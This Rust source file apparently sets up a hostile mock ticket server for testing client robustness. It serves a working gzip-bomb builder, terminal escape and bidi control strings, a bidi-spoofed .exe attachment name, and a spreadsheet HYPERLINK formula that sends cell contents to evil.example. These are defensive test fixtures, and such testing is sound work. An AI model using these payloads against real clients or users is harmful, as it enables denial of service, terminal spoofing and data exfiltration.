//! Hostile and broken servers, for the tests that show a client ends bounded, leaks nothing and
//! injects nothing whatever a provider does.
//!
//! Each mode answers every request under `/hostile/<mode>/...` the same way, whatever the path,
//! method or key, so a client pointed there as if at Sonar (`--base-url .../hostile/<mode>`) meets
//! the misbehaviour on its first request. The shapes that carry tickets are Sonar's
//! (`{"total": N, "tickets": [...]}`, `logpresso-sonar-get-tickets.txt`); the error bodies are
//! Sonar's `{"error_code", "error_msg"}`.
//!
//! | mode | what the server does |
//! |---|---|
//! | `never` | accepts the request and never answers |
//! | `stall` | sends headers and the first bytes of a body, then nothing, forever |
//! | `slow` | sends a body one byte per second |
//! | `retry-after-119` | 429 with `Retry-After: 119` |
//! | `gzip-bomb` | 200, `Content-Encoding: gzip`: 6.5 MB that inflate to 1 GiB of spaces |
//! | `lying-total` | says `total` is 10^12 and every page holds the same ticket |
//! | `escape-text` | 400 whose `error_msg` holds ESC, OSC, BEL, C1 and bidi controls |
//! | `escape-ticket` | one ticket whose title, status and site name hold the same controls |
//! | `formula-title` | one ticket whose title is a spreadsheet formula |
//! | `bidi-attachment` | a file download named `invoice\u{202e}fdp.exe` (`Content-Disposition`, RFC 6266) |
//! | `year-minus-1` | one ticket `updated` in year -1 |
//! | `unauthorized` | 401 with an error body |
//! | `unmapped-status` | 1000 tickets whose status no document lists |

use std::sync::OnceLock;
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Path, RawQuery};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::any;
use serde_json::{Value, json};

/// Every mode this module serves, in the order of the table above.
pub const MODES: &[&str] = &[
    "never",
    "stall",
    "slow",
    "retry-after-119",
    "gzip-bomb",
    "lying-total",
    "escape-text",
    "escape-ticket",
    "formula-title",
    "bidi-attachment",
    "year-minus-1",
    "unauthorized",
    "unmapped-status",
];

/// The controls a hostile provider hides in its text: an OSC that retitles the terminal (ended by
/// BEL), a CSI that clears the screen and one that colours, a C1 CSI (U+009B), and a right-to-left
/// override that makes `exe.txt` read as `txt.exe`.
pub const HOSTILE_TEXT: &str =
    "boom\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mred\u{9b}1m \u{202e}txt.exe";

/// A title a spreadsheet would run (OWASP "CSV Injection").
pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

/// Decompressed size of the gzip bomb.
pub const BOMB_SIZE: u64 = 1 << 30;

/// The routes, nested under `/hostile` by [`crate::app`].
pub fn router() -> Router {
    Router::new()
        .route("/{mode}", any(answer))
        .route("/{mode}/{*rest}", any(answer_nested))
}

async fn answer_nested(Path((mode, _rest)): Path<(String, String)>, query: RawQuery) -> Response {
    answer(Path(mode), query).await
}

async fn answer(Path(mode): Path<String>, RawQuery(query): RawQuery) -> Response {
    match mode.as_str() {
        "never" => std::future::pending().await,
        "stall" => stall(),
        "slow" => drip(page(
            1,
            vec![ticket("2025-06-01 10:00:00+0000", "ASSIGNED", "slow")],
        )),
        "retry-after-119" => {
            let mut r = error(
                StatusCode::TOO_MANY_REQUESTS,
                "too-many-requests",
                "slow down",
            );
            r.headers_mut()
                .insert(header::RETRY_AFTER, header::HeaderValue::from_static("119"));
            r
        }
        "gzip-bomb" => (
            [
                (header::CONTENT_TYPE, "application/json"),
                (header::CONTENT_ENCODING, "gzip"),
            ],
            Body::from(bomb().clone()),
        )
            .into_response(),
        "lying-total" => {
            let limit = limit(query.as_deref()).unwrap_or(1000).min(1000);
            let same = ticket("2025-06-01 10:00:00+0000", "ASSIGNED", "the same ticket");
            json_response(page(1_000_000_000_000, vec![same; limit]))
        }
        "escape-text" => error(StatusCode::BAD_REQUEST, "invalid-argument", HOSTILE_TEXT),
        "escape-ticket" => {
            let mut t = ticket("2025-06-01 10:00:00+0000", HOSTILE_TEXT, HOSTILE_TEXT);
            t["site_name"] = json!(HOSTILE_TEXT);
            json_response(page(1, vec![t]))
        }
        "formula-title" => json_response(page(
            1,
            vec![ticket("2025-06-01 10:00:00+0000", "ASSIGNED", FORMULA)],
        )),
        "bidi-attachment" => (
            [
                (header::CONTENT_TYPE, "application/octet-stream"),
                (
                    header::CONTENT_DISPOSITION,
                    "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe",
                ),
            ],
            "MZ not really a program",
        )
            .into_response(),
        "year-minus-1" => json_response(page(
            1,
            vec![ticket(
                "-0001-06-01 10:00:00+0000",
                "ASSIGNED",
                "from year -1",
            )],
        )),
        "unauthorized" => error(
            StatusCode::UNAUTHORIZED,
            "unauthorized",
            "invalid api key (hostile body)",
        ),
        "unmapped-status" => {
            let tickets = (0..1000)
                .map(|i| {
                    let mut t = ticket("2025-06-01 10:00:00+0000", "PONDERING", "unmapped");
                    t["id"] = json!(i + 1);
                    t["guid"] = json!(guid(i + 1));
                    t
                })
                .collect();
            json_response(page(1000, tickets))
        }
        _ => (StatusCode::NOT_FOUND, format!("no hostile mode '{mode}'")).into_response(),
    }
}

fn limit(query: Option<&str>) -> Option<usize> {
    url::form_urlencoded::parse(query?.as_bytes())
        .find(|(k, _)| k == "limit")
        .and_then(|(_, v)| v.parse().ok())
}

fn guid(n: u64) -> String {
    format!("00000000-0000-4000-8000-{n:012x}")
}

/// A Sonar ticket as the list answer carries it.
fn ticket(updated: &str, status: &str, title: &str) -> Value {
    json!({
        "id": 1,
        "repo_guid": "5f0ba741-7551-400d-8bd6-1f14a6e8536d",
        "repo_name": "Threat",
        "guid": guid(1),
        "title": title,
        "priority": "LOW",
        "status": status,
        "assignees": [],
        "approvers": [],
        "created": "2025-06-01 09:00:00+0000",
        "updated": updated,
        "closed": null,
    })
}

fn page(total: u64, tickets: Vec<Value>) -> Value {
    json!({ "total": total, "tickets": tickets })
}

fn json_response(v: Value) -> Response {
    (
        [(header::CONTENT_TYPE, "application/json")],
        serde_json::to_vec(&v).unwrap_or_default(),
    )
        .into_response()
}

fn error(status: StatusCode, code: &str, msg: &str) -> Response {
    let body = json!({ "error_code": code, "error_msg": msg });
    (
        status,
        [(header::CONTENT_TYPE, "application/json")],
        body.to_string(),
    )
        .into_response()
}

/// Headers and the first bytes of a body, then silence that never ends.
fn stall() -> Response {
    let first = futures::stream::once(async {
        Ok::<_, std::io::Error>(Bytes::from_static(b"{\"total\":"))
    });
    let never = futures::stream::pending();
    let body = Body::from_stream(futures::StreamExt::chain(first, never));
    ([(header::CONTENT_TYPE, "application/json")], body).into_response()
}

/// `v` as JSON, one byte a second.
fn drip(v: Value) -> Response {
    let bytes = serde_json::to_vec(&v).unwrap_or_default();
    let stream = futures::stream::unfold((bytes, 0usize), |(bytes, at)| async move {
        if at >= bytes.len() {
            return None;
        }
        if at > 0 {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        let byte = Bytes::copy_from_slice(&bytes[at..at + 1]);
        Some((Ok::<_, std::io::Error>(byte), (bytes, at + 1)))
    });
    (
        [(header::CONTENT_TYPE, "application/json")],
        Body::from_stream(stream),
    )
        .into_response()
}

/// The gzip bomb, built once: a gzip member holding one fixed-Huffman deflate block (RFC 1951
/// §3.2.6) of one literal space and then back-references of length 258 at distance 1, each 13
/// bits, so 1 GiB of spaces (valid JSON whitespace, which a naive client would try to parse)
/// takes about 6.5 MB on the wire. The trailer's CRC-32 is not computed: a client that reads far
/// enough to check it has already lost.
fn bomb() -> &'static Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| {
        let refs = (BOMB_SIZE - 1) / 258;
        let tail = (BOMB_SIZE - 1) % 258;
        let mut w = Bits::default();
        w.out
            .extend_from_slice(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
        w.put(1, 1); // BFINAL
        w.put(1, 2); // BTYPE = 01, fixed Huffman
        w.code(0x30 + u32::from(b' '), 8); // literal 0..=143: 8 bits from 0b00110000
        for _ in 0..refs {
            w.code(0b1100_0101, 8); // length symbol 285 = 258, no extra bits
            w.code(0, 5); // distance symbol 0 = 1
        }
        for _ in 0..tail {
            w.code(0x30 + u32::from(b' '), 8);
        }
        w.code(0, 7); // end of block, symbol 256
        w.flush();
        w.out.extend_from_slice(&0u32.to_le_bytes()); // CRC-32, deliberately not computed
        w.out.extend_from_slice(&(BOMB_SIZE as u32).to_le_bytes()); // ISIZE mod 2^32
        Bytes::from(w.out)
    })
}

/// A deflate bit writer: values LSB first, Huffman codes MSB first (RFC 1951 §3.1.1).
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u32, bits: u32) {
        self.acc |= u64::from(value) << self.n;
        self.n += bits;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    fn code(&mut self, code: u32, bits: u32) {
        let reversed = code.reverse_bits() >> (32 - bits);
        self.put(reversed, bits);
    }

    fn flush(&mut self) {
        if self.n > 0 {
            self.out.push(self.acc as u8);
            self.acc = 0;
            self.n = 0;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_bomb_is_small_on_the_wire() {
        let b = bomb();
        assert_eq!(&b[..3], &[0x1f, 0x8b, 8]);
        assert!(b.len() < 7 << 20, "{} bytes", b.len());
        assert!(b.len() > 6 << 20, "{} bytes", b.len());
    }

    #[test]
    fn the_hostile_text_holds_every_kind_of_control() {
        for c in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
            assert!(HOSTILE_TEXT.contains(c), "{c:?}");
        }
    }
}
